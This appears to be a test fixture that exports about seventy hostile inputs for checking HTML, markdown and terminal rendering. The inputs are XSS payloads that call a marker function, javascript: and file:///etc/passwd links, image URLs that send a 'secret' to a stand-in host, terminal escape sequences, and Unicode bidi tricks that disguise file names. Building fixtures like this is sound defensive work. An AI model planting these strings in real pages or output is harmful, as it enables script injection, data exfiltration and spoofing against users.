/*
 * Texts that somebody could write into a title, a message, an output or a file name to make a page do something. Each one
 * that runs calls `hit`, opens a dialog, or asks an address elsewhere.
 */

const scripts = [
  '<script>hit(1)</script>',
  '<img src=x onerror=hit(2)>',
  '<svg onload=hit(3)>',
  '<svg><style><img src=x onerror=hit(4)></style></svg>',
  '<iframe srcdoc="<script>parent.hit(5)</script>"></iframe>',
  '<details open ontoggle=hit(6)>x</details>',
  '<body onload=hit(7)>',
  '<input autofocus onfocus=hit(8)>',
  '<video><source onerror=hit(9)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit(10)>',
  '<a href="javascript:hit(11)">click</a>',
  '"><script>hit(12)</script>',
  "';hit(13);//",
  '</title><script>hit(14)</script>',
  '</textarea><script>hit(15)</script>',
  '<object data="javascript:hit(16)"></object>',
  '<embed src="javascript:hit(17)">',
  '<form action="javascript:hit(18)"><button>go</button></form>',
  '<base href="http://192.0.2.1/">',
  '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
  '<link rel=stylesheet href=http://192.0.2.1/x.css>',
  '<style>@import "http://192.0.2.1/x.css";</style>',
  '<img src="http://192.0.2.1/?q=secret">',
  '<template><script>hit(24)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit(25)>">',
  '<!--><script>hit(26)</script>-->',
  '<xmp><img src=x onerror=hit(27)></xmp>',
  '<marquee onstart=hit(28)>x</marquee>',
  '<button popovertarget=x onbeforetoggle=hit(29)>x</button>',
  '<div style="background:url(http://192.0.2.1/)">x</div>',
]

const markdown = [
  '![x](http://192.0.2.1/?q=secret)',
  '![x][y]\n\n[y]: http://192.0.2.1/?q=secret',
  '[x](javascript:hit(33))',
  '[x](JaVaScRiPt:hit(34))',
  '[x](java&#115;cript:hit(35))',
  '[x](data:text/html,<script>hit(36)</script>)',
  '[x](vbscript:hit(37))',
  '<javascript:hit(38)>',
  '[x](<javascript:hit(39)>)',
  '[x]: javascript:hit(40)\n\n[x]',
  '[x](file:///etc/passwd)',
  '[x](//192.0.2.1/)',
  '```html\n<script>hit(43)</script>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=hit(44)>"] --> B; click A "javascript:hit(44)"\n```',
  '$$\\href{javascript:hit(45)}{x}$$',
  '| <img src=x onerror=hit(46)> |\n|---|\n| x |',
  '- [ ] <input onfocus=hit(47) autofocus>',
  '[^1]\n\n[^1]: <img src=x onerror=hit(48)>',
  'https://192.0.2.1/"onmouseover="hit(49)',
  '&lt;script&gt;hit(50)&lt;/script&gt;',
  '`<img src=x onerror=hit(51)>`',
  '# <img src=x onerror=hit(52)>',
]

const terminals = [
  '\u001b]52;c;aGl0\u0007',
  '\u001b]8;;javascript:hit(54)\u0007click\u001b]8;;\u0007',
  '\u001b]0;another title\u0007',
  '\u001b[2J\u001b[H\u001b[31mred\u001b[0m',
  '\u001bP+q544e\u001b\\',
  `\u001b]${'A'.repeat(5000)}`,
  '\u009b31mred\u009d0;title\u009c',
]

const orders = [
  'user\u202Etxt.exe',
  'a\u2066b\u2069c',
  'in\u200Bvisible',
  `tag${String.fromCodePoint(0xe0061, 0xe0062)}`,
  '\u061Cmark',
]

export const hostile: readonly string[] = [...scripts, ...markdown, ...terminals, ...orders]
